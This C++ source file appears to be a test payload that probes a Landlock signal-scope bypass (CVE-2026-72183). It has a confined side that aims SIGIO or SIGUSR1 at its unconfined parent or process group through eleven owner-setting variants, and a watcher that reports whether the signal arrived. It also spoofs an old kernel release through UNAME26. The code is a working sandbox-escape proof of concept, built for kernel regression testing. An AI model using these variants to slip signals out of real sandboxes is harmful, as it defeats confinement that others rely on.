// The SIGIO path around Landlock's signal scope (CVE-2026-72183), both sides:
//
//   sigio watch COMMAND [ARG]...   the unconfined side: leads a process group
//       of its own, catches SIGIO and SIGUSR1, runs COMMAND (landlock-run ...
//       -- sigio arm ENTRY) as its child, in its group, and prints "arrived
//       SIGNAL" if a signal reached it, else "stopped". Exit 0 stopped,
//       1 arrived, 2 setup failed, 3 COMMAND did not exit 0.
//   sigio arm ENTRY   the confined side: aims a pipe's (or a socket's) I/O
//       signal at its parent or at its process group by ENTRY, triggers an
//       I/O event, and prints "armed", or "refused STEP ERRNO" if the kernel
//       refused a step (then no signal can come). Exit 0 either way.
//   sigio old-release COMMAND [ARG]...   execs COMMAND with the UNAME26
//       personality: uname -r says 2.6.N, a release the CVE counts affected.
//
// Static like every payload, so that it runs in the qemu kernels' initramfs.
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>

#include "payload.h"

namespace {

enum class Owner { Fcntl, FcntlEx, FioSetown, SiocSpgrp };  // how the file's owner is set
enum class Target { Parent, ParentThread, Group };          // whom the I/O event signals

struct Entry {
  const char *name;
  Owner owner;
  Target target;
  bool socket;    // a socket pair (the ioctls are socket ioctls), else a pipe
  bool setsig;    // F_SETSIG SIGUSR1 first: the signal of one's choice instead of SIGIO
  bool fioasync;  // O_ASYNC by ioctl(FIOASYNC), else by fcntl(F_SETFL)
};

constexpr Entry kEntries[] = {
    {"setown-pid", Owner::Fcntl, Target::Parent, false, false, false},
    {"setown-pgid", Owner::Fcntl, Target::Group, false, false, false},
    {"setown-ex-tid", Owner::FcntlEx, Target::ParentThread, false, false, false},
    {"setown-ex-pid", Owner::FcntlEx, Target::Parent, false, false, false},
    {"setown-ex-pgrp", Owner::FcntlEx, Target::Group, false, false, false},
    {"setsig-pid", Owner::Fcntl, Target::Parent, false, true, false},
    {"setsig-pgid", Owner::Fcntl, Target::Group, false, true, false},
    {"fioasync-pgid", Owner::Fcntl, Target::Group, false, false, true},
    {"fiosetown-pgid", Owner::FioSetown, Target::Group, true, false, true},
    {"siocspgrp-pgid", Owner::SiocSpgrp, Target::Group, true, false, false},
    {"siocspgrp-pid", Owner::SiocSpgrp, Target::Parent, true, false, false},
};

volatile sig_atomic_t arrived = 0;  // the signal that reached this process, 0 for none
void note(int signo) { arrived = signo; }

bool catch_io_signals() {
  struct sigaction action = {};
  action.sa_handler = note;
  action.sa_flags = SA_RESTART;
  return sigaction(SIGIO, &action, nullptr) == 0 && sigaction(SIGUSR1, &action, nullptr) == 0;
}

// Prints "refused STEP ERRNO" and ends: the kernel stopped the escape before the event.
int refused(const char *step) {
  payload::out("refused ");
  payload::out(step);
  payload::out(" ");
  payload::out(payload::errno_name(errno));
  payload::out("\n");
  return 0;
}

int set_owner(int fd, const Entry &entry) {
  pid_t parent = getppid();
  int owner = entry.target == Target::Group ? -getpgrp() : parent;  // F_SETOWN's spelling of a group
  if (entry.owner == Owner::Fcntl) return fcntl(fd, F_SETOWN, owner);
  if (entry.owner == Owner::FioSetown) return ioctl(fd, FIOSETOWN, &owner);
  if (entry.owner == Owner::SiocSpgrp) return ioctl(fd, SIOCSPGRP, &owner);
  f_owner_ex owner_ex = {F_OWNER_PID, parent};
  if (entry.target == Target::ParentThread) owner_ex.type = F_OWNER_TID;  // its main thread: tid == pid
  if (entry.target == Target::Group) owner_ex = {F_OWNER_PGRP, getpgrp()};
  return fcntl(fd, F_SETOWN_EX, &owner_ex);
}

int arm(const Entry &entry) {
  if (!catch_io_signals()) return 2;  // a signal aimed at the group reaches this process too
  int fds[2];
  int made = entry.socket ? socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds) : pipe2(fds, O_CLOEXEC);
  if (made != 0) return 2;
  if (entry.setsig && fcntl(fds[0], F_SETSIG, SIGUSR1) != 0) return refused("F_SETSIG");
  if (set_owner(fds[0], entry) != 0) return refused("owner");
  int on = 1;
  if (entry.fioasync && ioctl(fds[0], FIOASYNC, &on) != 0) return refused("FIOASYNC");
  if (!entry.fioasync && fcntl(fds[0], F_SETFL, fcntl(fds[0], F_GETFL) | O_ASYNC) != 0) return refused("O_ASYNC");
  if (write(fds[1], "x", 1) != 1) return 2;  // the I/O event: fds[0] becomes readable
  payload::out("armed\n");
  return 0;
}

int watch(char **command) {
  if (setpgid(0, 0) != 0 || !catch_io_signals()) return 2;  // a group of its own: no one else is hit
  pid_t child = fork();
  if (child < 0) return 2;
  if (child == 0) {
    execv(command[0], command);
    _exit(127);
  }
  int status = 0;
  while (waitpid(child, &status, 0) != child)
    if (errno != EINTR) return 2;
  timespec settle = {0, 100000000L};  // 100 ms: the kernel signals within write(2); a margin all the same
  nanosleep(&settle, nullptr);
  if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
    payload::out("command failed\n");
    return 3;
  }
  if (arrived == 0) {
    payload::out("stopped\n");
    return 0;
  }
  payload::out(arrived == SIGIO ? "arrived SIGIO\n" : "arrived SIGUSR1\n");
  return 1;
}

}  // namespace

int main(int argc, char **argv) {
  if (argc >= 3 && strcmp(argv[1], "watch") == 0) return watch(argv + 2);
  if (argc >= 3 && strcmp(argv[1], "old-release") == 0) {
    if (personality(UNAME26) == -1) return 2;  // with PER_LINUX, which is 0
    execv(argv[2], argv + 2);
    return 127;
  }
  if (argc == 3 && strcmp(argv[1], "arm") == 0)
    for (const Entry &entry : kEntries)
      if (strcmp(argv[2], entry.name) == 0) return arm(entry);
  payload::out("usage: sigio watch COMMAND... | sigio arm ENTRY | sigio old-release COMMAND...\n");
  return 2;
}
